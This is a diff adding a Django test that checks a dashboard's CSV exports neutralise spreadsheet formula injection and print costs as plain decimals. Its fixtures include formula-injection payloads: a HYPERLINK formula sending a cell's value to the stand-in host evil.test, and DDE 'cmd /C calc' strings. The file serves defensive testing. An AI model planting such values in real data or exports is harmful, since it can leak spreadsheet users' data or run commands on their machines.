@@ -1,6 +1,7 @@
 import csv
 import io
 import json
+import re
 from datetime import timedelta
 from urllib.parse import parse_qs, urlsplit
 
@@ -226,3 +227,39 @@ def test_a_chart_csv_reads_only_what_its_chart_needs(user_client, recent_rows, d
     with django_assert_max_num_queries(6):
         response = user_client.get("/dashboard/table/cost-by-model.csv?range=30d")
     assert response.status_code == 200
+
+
+HOSTILE_NAMES = {
+    "model": '=HYPERLINK("http://evil.test/?"&A1,"open")',
+    "provider": "+cmd|' /C calc'!A0",
+    "api_key_hash": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "endpoint": "-2+3+cmd|' /C calc'!A0",
+}
+PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+
+def csv_records(user_client, url):
+    response = user_client.get(url)
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_every_chart_csv_neutralises_formulas_and_writes_plain_decimals(user_client):
+    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=2)
+    make_generation("ten-dollars", body=False, cost_pico=10 * 10**12, occurred_at=hour + timedelta(minutes=5))
+    make_generation("one-pico", body=False, cost_pico=1, occurred_at=hour - timedelta(hours=3), **HOSTILE_NAMES)
+    KeyLabel.objects.create(api_key_hash="sha256:aaaabbbbcccc", name="\t=1+1", team="=TEAM()")
+    html = user_client.get("/dashboard/?range=24h").content.decode()
+    urls = sorted(set(re.findall(r'href="(/dashboard/table/[\w-]+\.csv\?[^"]*)"', html)))
+    assert len(urls) == 12
+    cells = []
+    for url in urls:
+        cells += [cell for row in csv_records(user_client, url.replace("&amp;", "&")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r")) and not PLAIN_NUMBER.fullmatch(cell)]
+    for name in [HOSTILE_NAMES["model"], HOSTILE_NAMES["provider"], "\t=1+1", "=TEAM()"]:
+        assert "'" + name in cells
+    assert not [cell for cell in cells if "E+" in cell or "E-" in cell]
+    over_time = csv_records(user_client, "/dashboard/table/cost-over-time.csv?range=24h")
+    totals = [row[1] for row in over_time[1:]]
+    assert "10" in totals  # the $10 hour: Decimal("1E+1") before
+    assert "0.000000000001" in totals  # the one-pico hour: Decimal("1E-12")
